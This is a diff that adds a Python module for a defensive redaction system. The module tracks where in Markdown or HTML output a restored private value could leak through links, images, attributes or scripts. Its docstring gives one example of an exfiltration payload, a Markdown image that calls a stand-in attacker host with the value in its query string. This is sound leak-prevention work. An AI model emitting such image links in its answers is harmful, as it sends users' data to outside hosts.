@@ -1,0 +1,368 @@
+"""The places of an answer where nothing is ever put back, because they travel.
+
+A value in a link's destination, an attribute or a script could be carried off by the mere display
+or a click (`![x](https://evil.example/?q=<value>)`). A place counts as one where any reading of
+the answer makes it one: CommonMark with and without raw HTML, the tokenizer of HTML, GFM's
+autolinks. Read once from left to right with a bounded look ahead, so that a stream gives the same
+result as the whole, in linear time. What the look ahead does not decide counts as travelling.
+"""
+
+from __future__ import annotations
+
+import re
+from typing import Final
+
+from engine.returned.zones import address_ends
+from engine.returned.zones.address_ends import Verdict
+from engine.returned.zones.code_blocks import LOOK_AHEAD, Blocks, spans
+from engine.returned.zones.tags import LONGEST_OPENING, Tags, escaped, fills_attribute, whole_tag
+from engine.returned.zones.targets import ADDRESS, Targets, begins_address
+
+_MARKS = (
+    rf"(?P<line>\r\n?|\n)|(?P<tag><)|(?P<ticks>`++)|(?P<link>\]\()|(?P<label>\]\[|!\[)"
+    rf"|(?P<define>\]:)|(?P<address>{ADDRESS})"
+)
+_IDLE: Final = re.compile(_MARKS)
+_BUSY: Final = re.compile(rf"{_MARKS}|(?P<space>[ \t\f\v]++)|(?P<sign>[>\"'=/()\[\]])")
+_CODE: Final = re.compile(
+    rf"(?P<line>\r\n?|\n)|(?P<tag><)|(?P<address>{ADDRESS})|(?P<space>[ \t\f\v]++)"
+    r"|(?P<sign>[>\"'=/()\[\]{}`])"
+)
+_LONGEST_MARK: Final = 32
+_CLOSERS: Final = {")": "(", "]": "[", "}": "{"}
+_RAW_END: Final = re.compile(r"</(?:pre|script|style|textarea)", re.IGNORECASE)
+_BREAKS_OUT: Final = re.compile(r"[\s\"'<>`]")
+_QUOTED_LINE: Final = re.compile(r"[ \t]*+(?:(?:[-*+]|\d{1,9}[.)])[ \t]++)*+>")
+_QUOTE_MARKS: Final = re.compile(r"[ \t>]*+")
+_LONGEST_PREFIX: Final = 256
+_OPENED: Final = re.compile(r"<[/!?]?\Z")
+_NAMES_TAG: Final = re.compile(r"[a-z/!?]", re.IGNORECASE)
+"""Behind a «<» that begins no tag yet, such a value would begin one."""
+
+
+class Zones:
+    """Where an answer travels, up to the place that was asked about last."""
+
+    def __init__(self) -> None:
+        self._at = 0
+        self._fresh = True
+        self._blocks = Blocks()
+        self._tags = Tags()
+        self._targets = Targets()
+        self._code: Tags | None = None
+        self._code_end = -1
+        self._address = False
+        self._address_tag = -1
+        self._depth = 0
+        self._ticks = -1
+        self._clean = True
+        self._spans: tuple[tuple[int, int], ...] | None = None
+        self._accepted = 0
+        self._line = 0
+        self._quoted = False
+        self._ticked = False
+
+    def judge(
+        self, text: str, start: int, end: int, *, kind: str, original: str, final: bool
+    ) -> Verdict | None:
+        """Whether a value of type `kind` may be put back at `[start, end)`; None: wait for more.
+
+        Places are asked about from left to right, `text` may have grown since.
+        """
+        if not self._advance(text, start, final=final):
+            return None
+        if self._inside(text, start):
+            whole = not _BREAKS_OUT.search(original)
+            verdict = self._filled(text, start, end, kind=kind, final=final)
+            return verdict if whole or verdict is None else "travels"
+        if _OPENED.search(text, max(0, start - 2), start) and _NAMES_TAG.match(original):
+            verdict = _in_brackets(text, start, end, kind=kind, final=final)
+        elif self._code is not None:
+            verdict = "free"
+        else:
+            verdict = self._followed(text, start, end, kind=kind, original=original, final=final)
+        if verdict == "free" and (self._code or self._tags).in_element:
+            return "html"
+        return verdict
+
+    def accept(self, end: int) -> None:
+        """A value was put back up to `end`: what its stand-in held begins nothing."""
+        self._accepted = end
+
+    def _inside(self, text: str, at: int) -> bool:
+        if self._address or self._blocks.info:
+            return True
+        if self._code is not None:
+            return self._code.alive
+        return self._tags.alive or self._targets.holds(text, at)
+
+    def _advance(self, text: str, to: int, *, final: bool) -> bool:
+        """Read up to `to`; False where that needs more text."""
+        while self._fresh or self._at < to:
+            if self._fresh:
+                done = self._begin_line(text, final=final)
+            elif self._code is not None:
+                done = self._read_code(text, to, final=final)
+            else:
+                done = self._read(text, to, final=final)
+            if not done:
+                return False
+        return True
+
+    def _begin_line(self, text: str, *, final: bool) -> bool:
+        was_code = self._blocks.code
+        if not self._blocks.begin(text, self._at, markup=self._tags.alive, final=final):
+            return False
+        self._fresh, self._line = False, self._at
+        self._ticks, self._clean, self._spans = -1, True, None
+        if self._blocks.ends_raw and not self._blocks.sure:
+            self._tags.end_block(comments=self._blocks.leaves)
+        if self._blocks.code and not was_code:
+            self._code, self._code_end = Tags(code=True), -1
+            self._targets.end_paragraph()
+        elif was_code and not self._blocks.code:
+            self._code = None
+        elif self._blocks.blank and not self._blocks.code:
+            self._targets.end_paragraph()
+        return True
+
+    def _next(self, pattern: re.Pattern[str], text: str, to: int) -> re.Match[str] | None:
+        match = pattern.search(text, self._at, to + _LONGEST_MARK)
+        return match if match and match.start() < to else None
+
+    def _read(self, text: str, to: int, *, final: bool) -> bool:
+        """Read up to the next mark that matters, and the mark."""
+        alive = self._tags.alive or self._address or self._targets.alive
+        match = self._next(_BUSY if alive else _IDLE, text, to)
+        start = match.start() if match else to
+        if start > self._at:
+            self._pass_over()
+            self._at = start
+        if match is None:
+            return True
+        if match.lastgroup == "tag":
+            return self._read_tag(text, final=final)
+        self._read_mark(text, match)
+        self._at = match.end()
+        return True
+
+    def _pass_over(self) -> None:
+        """Characters that mean nothing but that something stands there."""
+        self._tags.pass_over()
+        self._targets.other()
+
+    def _marks_quote(self, text: str, at: int) -> bool:
+        """Whether a `>` does not end the tag, since that was begun in a quotation."""
+        if not self._quoted or text[at] != ">":
+            return False
+        prefix = min(at, self._line + _LONGEST_PREFIX)
+        if _QUOTED_LINE.match(text, self._line, prefix) is None:
+            return True  # a mark, or behind the quotation's end, where Markdown escapes it
+        return _QUOTE_MARKS.fullmatch(text, self._line, prefix) is not None and prefix == at
+
+    def _read_mark(self, text: str, match: re.Match[str]) -> None:
+        start, end = match.span()
+        if self._tags.alive:
+            for place in range(start, end):
+                if self._marks_quote(text, place):
+                    self._tags.pass_over()
+                else:
+                    self._tags.read(text, place)
+        if text[start] == ">" and self._address and self._tag_ends(text, start):
+            self._address = False
+        marked = match.lastgroup
+        if marked in ("line", "space"):
+            self._address = False
+            self._fresh = marked == "line"
+        if marked == "ticks":
+            self._see_ticks(text, start)
+        elif marked == "address":
+            self._open_address(text, start, end)
+        elif marked != "define" or start >= self._accepted:
+            self._targets.read(marked or "", text, start, end)
+
+    def _tag_ends(self, text: str, at: int) -> bool:
+        """Whether the tag in which the address began ends at `at`, in every reading."""
+        begun, self._address_tag = self._address_tag, -1
+        if begun < 0 or self._tags.alive:
+            self._address_tag = begun
+            return False
+        return whole_tag(text, begun, min(at + 1, begun + LOOK_AHEAD)) == at + 1
+
+    def _open_address(self, text: str, start: int, end: int) -> None:
+        if self._address or start < self._accepted:
+            return
+        if end == start + 1 and not begins_address(text, start):
+            return
+        self._address, self._depth = True, 0
+        self._address_tag = self._tags.opened if self._tags.in_tag else -1
+
+    def _see_ticks(self, text: str, start: int) -> None:
+        """Backticks: perhaps a code span, which is looked for only where HTML stands in it."""
+        self._targets.other()
+        self._ticked = True
+        taken = self._tags.alive or self._address or self._targets.alive
+        if taken or self._blocks.html or self._blocks.doubt or escaped(text, start):
+            self._clean = False
+        if self._ticks < 0:
+            self._ticks = start
+
+    def _read_tag(self, text: str, *, final: bool) -> bool:
+        """A `<`: code shows it, else it may begin a tag."""
+        at = self._at
+        if not final and len(text) - at < LONGEST_OPENING:
+            return False
+        code_end = self._span_end(text, at, final=final)
+        if code_end is None:
+            return False
+        if code_end > at:
+            self._code, self._code_end = Tags(code=True), code_end
+            return True
+        self._address = False
+        prefix = min(at, self._line + _LONGEST_PREFIX)
+        quoted = _QUOTED_LINE.match(text, self._line, prefix) is not None
+        self._quoted = quoted or (self._quoted and self._tags.alive)
+        self._tags.begin(text, at, shown=self._may_be_shown(text, at))
+        if _RAW_END.match(text, at):
+            self._blocks.close_raw()
+        self._targets.sign(text, at)
+        self._at = at + 1
+        return True
+
+    def _may_be_shown(self, text: str, at: int) -> bool:
+        """Whether Markdown may show the `<` at `at` as it is: escaped, or in code of some kind."""
+        self._ticked = self._ticked and self._tags.alive
+        if self._blocks.sure:
+            return False
+        code = self._ticked or self._blocks.doubt or self._blocks.indented
+        return code or escaped(text, at)
+
+    def _span_end(self, text: str, at: int, *, final: bool) -> int | None:
+        """Where the code span around `at` ends, -1 for none, None where that needs more text."""
+        if self._ticks < 0 or not self._clean:
+            return -1
+        if self._spans is None:
+            self._spans = spans(text, self._ticks, final=final)
+        if self._spans is None:
+            return None
+        return next((end for start, end in self._spans if start < at < end), -1)
+
+    def _read_code(self, text: str, to: int, *, final: bool) -> bool:
+        """The same inside code, where only HTML and addresses matter."""
+        code = self._code
+        limit = to if self._code_end < 0 else min(to, self._code_end)
+        match = self._next(_CODE, text, limit)
+        start = match.start() if match else limit
+        if code is None:
+            return True
+        if start > self._at:
+            code.pass_over()
+            self._at = start
+        if match is None:
+            self._leave_span()
+            return True
+        if match.lastgroup == "tag":
+            if not final and len(text) - start < LONGEST_OPENING:
+                return False
+            self._address = False
+            code.begin(text, start)
+            self._at = start + 1
+        else:
+            self._read_code_mark(text, match, code)
+            self._at = match.end()
+        self._leave_span()
+        return True
+
+    def _leave_span(self) -> None:
+        if 0 <= self._code_end <= self._at:
+            self._code, self._code_end, self._address = None, -1, False
+
+    def _read_code_mark(self, text: str, match: re.Match[str], code: Tags) -> None:
+        start, end = match.span()
+        if code.alive:
+            for place in range(start, end):
+                code.read(text, place)
+        if match.lastgroup == "address":
+            if end > start + 1 and not self._address and start >= self._accepted:
+                self._address, self._depth = True, 0
+        elif match.lastgroup in ("line", "space"):
+            self._address = False
+            self._fresh = match.lastgroup == "line"
+        elif text[start] in "\"'>`":
+            self._address = False
+        elif text[start] in "([{":
+            self._depth += 1
+        elif text[start] in ")]}":
+            self._depth -= 1
+            self._address = self._address and self._depth >= 0
+
+    def _filled(self, text: str, start: int, end: int, *, kind: str, final: bool) -> Verdict | None:
+        """Whether a value that is an address fills the destination it stands in."""
+        angle = text[start - 1 : start] == "<"
+        if self._address or self._blocks.info or not (kind == "URL" or angle):
+            return "travels"
+        if end == len(text) and not final:
+            return None
+        if self._code is not None:
+            return self._filled_code(text, start, end)
+        return self._filled_text(text, start, end, kind=kind, final=final)
+
+    def _filled_code(self, text: str, start: int, end: int) -> Verdict:
+        """The same in code: a whole attribute in quotes."""
+        before, in_tag = text[start - 1 : start], self._code is not None and self._code.in_tag
+        quoted = before in ("'", '"') and text[end : end + 1] == before
+        return "free" if in_tag and quoted else "travels"
+
+    def _filled_text(
+        self, text: str, start: int, end: int, *, kind: str, final: bool
+    ) -> Verdict | None:
+        if self._tags.alive and not self._fits_tag(text, start, end, kind=kind):
+            return self._tag_verdict(text, final=final)
+        if not self._targets.holds(text, start):
+            return "free"
+        after, angle = text[end : end + 1], text[start - 1 : start] == "<"
+        ends = (">",) if angle else (")", " ", "\t", "\r", "\n", "")
+        if kind != "URL" or after not in ends or not self._targets.begins(text, start):
+            return "travels"
+        return address_ends.ended(text, end, final=final)
+
+    def _fits_tag(self, text: str, start: int, end: int, *, kind: str) -> bool:
+        """`<value>`, or a whole attribute of the only tag that is open."""
+        begun, before, after = self._tags.opened, text[start - 1], text[end : end + 1]
+        if begun < 0 or not self._tags.in_tag:
+            return False
+        if begun == start - 1:
+            return kind in ("URL", "EMAIL_ADDRESS") and after == ">"
+        if kind != "URL" or before not in ("'", '"') or after != before:
+            return False
+        return fills_attribute(text, begun, begun + LOOK_AHEAD, (start, end))
+
+    def _tag_verdict(self, text: str, *, final: bool) -> Verdict | None:
+        """The verdict where the rest of the tag may still make it a whole one."""
+        begun = self._tags.opened
+        if begun < 0 or final or whole_tag(text, begun, begun + LOOK_AHEAD) > 0:
+            return "travels"
+        closed = text.find(">", begun, begun + LOOK_AHEAD) >= 0
+        return "travels" if closed or len(text) - begun >= LOOK_AHEAD else None
+
+    def _followed(
+        self, text: str, start: int, end: int, *, kind: str, original: str, final: bool
+    ) -> Verdict | None:
+        """Whether what stands beside makes the place part of a destination after all."""
+        if kind == "URL" or address_ends.holds_address(original):
+            linked = text[start - 1 : start] == "["
+            return address_ends.ended(text, end, final=final, linked=linked)
+        if self._targets.define >= 0 and start == self._targets.defined(text):
+            verdict = address_ends.defined(text, end, final=final)
+            if verdict != "free":
+                return verdict
+        return address_ends.joined(text, start, end, kind=kind, final=final)
+
+
+def _in_brackets(text: str, start: int, end: int, *, kind: str, final: bool) -> Verdict | None:
+    """A value right behind a «<»: free only where it is a whole autolink."""
+    if kind not in ("URL", "EMAIL_ADDRESS") or text[start - 1] != "<":
+        return "travels"
+    if end == len(text) and not final:
+        return None
+    return "free" if text[end : end + 1] == ">" else "travels"
